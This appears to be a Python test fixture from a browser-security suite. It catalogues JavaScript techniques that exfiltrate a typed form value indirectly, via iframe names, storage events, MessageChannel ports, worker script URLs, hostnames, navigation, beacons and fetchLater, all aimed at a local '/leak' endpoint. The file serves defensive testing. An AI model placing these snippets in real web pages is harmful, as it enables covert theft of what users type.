"""Detours: what was typed goes into a name, a cookie, a storage, an address or a worker first, and is sent from there."""

from tests.browser.attack import Attack

_FRAME = "const frame = add('iframe', {src: '%s'}); window.ready = new Promise(go => frame.onload = go);"
_BLOB = "const code = `%s`; const w = new Worker(URL.createObjectURL(new Blob([code]))%s);"

BY_DETOUR = (
    Attack("name of a window", "typed(() => add('iframe', {name: first.value, src: '/name'}))"),
    Attack(
        "address that the next request tells",
        "typed(() => { history.replaceState(null, '', '?' + value()); fetch('/pixel'); })",
    ),
    Attack(
        "frame that watches the field",
        _FRAME % "/watching",
        later=True,
    ),
    Attack("storage that a frame listens to", _FRAME % "/storage" + "typed(() => localStorage.setItem('v', value()))"),
    Attack(
        "port into a frame of another site",
        _FRAME % "http://other.localhost/port"
        + "typed(() => { const c = new MessageChannel(); frame.contentWindow.postMessage(0, '*', [c.port2]);"
        "c.port1.postMessage(value()); })",
    ),
    Attack("host named by the value", "typed(() => { new Image().src = `http://${value()}.localhost:${location.port}/`; })"),
    Attack("script of a worker", "typed(() => new Worker('/leak?' + value()))"),
    Attack("script of a shared worker", "typed(() => new SharedWorker('/leak?' + value()))"),
    Attack("script of a service worker", "typed(() => navigator.serviceWorker.register('/leak?' + value()).catch(() => 0))"),
    Attack(
        "script that a worker imports",
        _BLOB % ("onmessage = e => { try { importScripts(e.data) } catch {} }; postMessage(1)", "")
        + "window.ready = new Promise(go => w.onmessage = go); typed(() => w.postMessage(location.origin + '/leak?' + value()))",
    ),
    Attack("click on a link", "typed(() => add('a', {href: '/leak?' + value()}).click())"),
    Attack("navigation by its interface", "typed(() => { navigation.navigate('/leak?' + value()); })"),
    Attack(
        "another address, loaded again",
        "typed(() => { history.pushState(null, '', '/leak?' + value()); location.reload(); })",
    ),
    Attack("address that is a script", "typed(() => { location.href = 'javascript:void fetch(\"/leak?' + value() + '\")'; })"),
    Attack(
        "beacon as the page goes",
        "typed(() => { addEventListener('pagehide', () => navigator.sendBeacon('/leak', value())); location.href = '/one'; })",
        later=True,
    ),
    Attack("request for later", "typed(() => fetchLater('/leak?' + value(), {activateAfter: 0}))"),
)  # fmt: skip

DETOUR_PARTS = {
    "/name": ("text/html", "<script>fetch('/leak?' + encodeURIComponent(name))</script>"),
    "/watching": (
        "text/html",
        "<script>setInterval(() => { const f = parent.document.getElementById('first');"
        "if (f.value) fetch('/leak?' + encodeURIComponent(f.value)).catch(() => 0); }, 30)</script>",
    ),
    "/storage": (
        "text/html",
        "<script>addEventListener('storage', e => fetch('/leak?' + e.newValue).catch(() => 0))</script>",
    ),
    "/port": (
        "text/html",
        "<script>onmessage = e => { e.ports[0].onmessage = m => fetch('/leak?' + m.data).catch(() => 0) }</script>",
    ),
}
"""What they load: path -> (type, body)."""
